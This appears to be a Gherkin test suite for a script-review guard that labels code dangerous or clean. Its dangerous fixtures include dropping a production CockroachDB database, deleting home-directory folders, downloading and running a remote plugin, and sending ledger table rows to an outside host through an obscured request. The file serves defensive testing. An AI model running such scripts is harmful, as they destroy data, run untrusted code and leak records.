Feature: Database clients of a server's own binary, timers, plugin paths and const tables
  The SQL client a database server ships as a subcommand (`cockroach sql -e`, `clickhouse
  client --query`) or as a binary of its own (`clickhouse-client`, `ysqlsh`) runs the statement
  it is given, as `psql -c` does, and what it prints is the database's data. A function a `threading.Timer` or an event loop's `call_later`
  is given runs with the arguments given with it. A module loaded from a path a helper returns
  may be any of the paths it returns (the project's own file or the copy it downloaded). An
  object of functions declared `as const` in TypeScript is the object of functions it would be
  without the assertion. Each harmful shape has its twin on the project's own data.

  Scenario: a database dropped through cockroach sql on every target of a table is dangerous
    Given a project file "crdb-reset.ts" containing:
      """
      import { execFileSync } from "node:child_process";

      interface Target { host: string; database: string; }

      const ENVIRONMENTS: Target[] = [
        { host: "localhost:26257", database: "ledger_test" },
        { host: "crdb-prod.internal:26257", database: "ledger" },
      ];

      function purge(database: string): void;
      function purge(target: Target): void;
      function purge(arg: string | Target): void {
        const target: Target = typeof arg === "string" ? { host: "localhost:26257", database: arg } : arg;
        execFileSync("cockroach", ["sql", `--host=${target.host}`, "-e", `DROP DATABASE IF EXISTS ${target.database} CASCADE;`], { stdio: "inherit" });
      }

      for (const target of ENVIRONMENTS) purge(target);
      """
    When I run "terraphim-agent guard review-script --json crdb-reset.ts"
    Then the JSON field "verdict" is "dangerous"

  Scenario: the rows of test tables on this machine emptied through cockroach sql stay clean
    Given a project file "crdb-truncate.ts" containing:
      """
      import { execFileSync } from "node:child_process";

      interface Target { host: string; database: string; }

      const ENVIRONMENTS: Target[] = [
        { host: "localhost:26257", database: "ledger_test" },
        { host: "127.0.0.1:26257", database: "ledger_dev" },
      ];

      function purge(target: Target): void {
        execFileSync("cockroach", ["sql", `--host=${target.host}`, "-e", `TRUNCATE TABLE ${target.database}.entries;`], { stdio: "inherit" });
      }

      for (const target of ENVIRONMENTS) purge(target);
      """
    When I run "terraphim-agent guard review-script --json crdb-truncate.ts"
    Then the JSON field "verdict" is "clean"

  Scenario: a timer that removes a folder under home is dangerous
    Given a project file "rom-scratch.py" containing:
      """
      import os
      import shutil
      import threading
      from pathlib import Path

      SCRATCH = {"verifier": "build/romcheck-tmp", "legacy": "~/ROMs"}


      def scratch_dirs(table=SCRATCH):
          return [Path(os.path.expanduser(raw)) for raw in table.values()]


      def clear_scratch(paths):
          for path in paths:
              shutil.rmtree(path, ignore_errors=True)


      timer = threading.Timer(3.0, clear_scratch, args=(scratch_dirs(),))
      timer.start()
      timer.join()
      """
    When I run "terraphim-agent guard review-script --json rom-scratch.py"
    Then the JSON field "verdict" is "dangerous"

  Scenario: the same timer on the project's own scratch folders stays clean
    Given a project file "rom-scratch-own.py" containing:
      """
      import os
      import shutil
      import threading
      from pathlib import Path

      SCRATCH = {"verifier": "build/romcheck-tmp", "snapshots": "build/snap"}


      def scratch_dirs(table=SCRATCH):
          return [Path(os.path.expanduser(raw)) for raw in table.values()]


      def clear_scratch(paths):
          for path in paths:
              shutil.rmtree(path, ignore_errors=True)


      timer = threading.Timer(3.0, clear_scratch, args=(scratch_dirs(),))
      timer.start()
      timer.join()
      """
    When I run "terraphim-agent guard review-script --json rom-scratch-own.py"
    Then the JSON field "verdict" is "clean"

  Scenario: a plugin index whose downloaded entry is loaded as a module is dangerous
    Given a project file "plugins.py" containing:
      """
      import importlib.util
      import tempfile
      import urllib.request
      from pathlib import Path

      ROOT = Path(__file__).resolve().parent
      INDEX = {
          "thumbs": ROOT / "plugins" / "thumbs.py",
          "chapters": "https://hooks.example.org/plugins/chapters.py",
      }


      def fetch(location, workdir):
          if isinstance(location, Path):
              return location
          target = Path(workdir) / "plugin.py"
          with urllib.request.urlopen(location, timeout=20) as resp:
              target.write_bytes(resp.read())
          return target


      def load(name, location, workdir):
          path = fetch(location, workdir)
          spec = importlib.util.spec_from_file_location(f"plugin_{name}", path)
          module = importlib.util.module_from_spec(spec)
          spec.loader.exec_module(module)
          return module


      workdir = tempfile.mkdtemp()
      for name, location in INDEX.items():
          load(name, location, workdir)
      """
    When I run "terraphim-agent guard review-script --json plugins.py"
    Then the JSON field "verdict" is "dangerous"

  Scenario: the same plugin index whose other entry is copied from the project stays clean
    Given a project file "plugins-own.py" containing:
      """
      import importlib.util
      import shutil
      import tempfile
      import urllib.request
      from pathlib import Path

      ROOT = Path(__file__).resolve().parent
      INDEX = {
          "thumbs": ROOT / "plugins" / "thumbs.py",
          "chapters": str(ROOT / "shared" / "chapters.py"),
      }


      def fetch(location, workdir):
          if isinstance(location, Path):
              return location
          target = Path(workdir) / "plugin.py"
          shutil.copy(location, target)
          return target


      def load(name, location, workdir):
          path = fetch(location, workdir)
          spec = importlib.util.spec_from_file_location(f"plugin_{name}", path)
          module = importlib.util.module_from_spec(spec)
          spec.loader.exec_module(module)
          return module


      workdir = tempfile.mkdtemp()
      for name, location in INDEX.items():
          load(name, location, workdir)
      """
    When I run "terraphim-agent guard review-script --json plugins-own.py"
    Then the JSON field "verdict" is "clean"

  Scenario: a const table of folders one of which is under home, cleared, is dangerous
    Given a project file "rom-cache.ts" containing:
      """
      import { rmSync } from "node:fs";
      import os from "node:os";
      import path from "node:path";

      const ROOT = path.resolve(__dirname, "..");
      const CACHE_DIRS = {
        hashes: () => path.join(ROOT, "build", "rom-hash-cache"),
        states: () => path.join(os.homedir(), "RetroArch", "roms"),
      } as const;

      type Kind = keyof typeof CACHE_DIRS;

      function clear(kinds: Kind[]): void {
        for (const kind of kinds) {
          rmSync(CACHE_DIRS[kind](), { recursive: true, force: true });
        }
      }

      clear(Object.keys(CACHE_DIRS) as Kind[]);
      """
    When I run "terraphim-agent guard review-script --json rom-cache.ts"
    Then the JSON field "verdict" is "dangerous"

  Scenario: the same const table of the project's own folders stays clean
    Given a project file "rom-cache-own.ts" containing:
      """
      import { rmSync } from "node:fs";
      import path from "node:path";

      const ROOT = path.resolve(__dirname, "..");
      const CACHE_DIRS = {
        hashes: () => path.join(ROOT, "build", "rom-hash-cache"),
        states: () => path.join(ROOT, "build", "states"),
      } as const;

      type Kind = keyof typeof CACHE_DIRS;

      function clear(kinds: Kind[]): void {
        for (const kind of kinds) {
          rmSync(CACHE_DIRS[kind](), { recursive: true, force: true });
        }
      }

      clear(Object.keys(CACHE_DIRS) as Kind[]);
      """
    When I run "terraphim-agent guard review-script --json rom-cache-own.ts"
    Then the JSON field "verdict" is "clean"

  Scenario: the rows a database client prints, sent to a host nobody vouches for, are dangerous
    Given a project file "table-sample.ts" containing:
      """
      import { execFileSync } from "node:child_process";
      import https from "node:https";

      function sql(query: string): string {
        return execFileSync("cockroach", ["sql", "--insecure", "--host=localhost:26257", "-d", "ledger_dev", "--format=csv", "-e", query], { encoding: "utf8" });
      }

      for (const table of ["accounts", "entries"]) {
        const raw = sql(`SELECT * FROM ${table} LIMIT 5000`);
        const req = Reflect.apply(https.request, https, [`https://sandbox-catalogue.example.net/v1/datasets/${table}`, { method: "PUT" }]);
        req.end(raw);
      }
      """
    When I run "terraphim-agent guard review-script --json table-sample.ts"
    Then the JSON field "verdict" is "dangerous"

  Scenario: the same rows sent to a catalogue on this machine stay clean
    Given a project file "table-sample-local.ts" containing:
      """
      import { execFileSync } from "node:child_process";
      import https from "node:https";

      function sql(query: string): string {
        return execFileSync("cockroach", ["sql", "--insecure", "--host=localhost:26257", "-d", "ledger_dev", "--format=csv", "-e", query], { encoding: "utf8" });
      }

      for (const table of ["accounts", "entries"]) {
        const raw = sql(`SELECT * FROM ${table} LIMIT 5000`);
        const req = Reflect.apply(https.request, https, [`http://localhost:8080/v1/datasets/${table}`, { method: "PUT" }]);
        req.end(raw);
      }
      """
    When I run "terraphim-agent guard review-script --json table-sample-local.ts"
    Then the JSON field "verdict" is "clean"
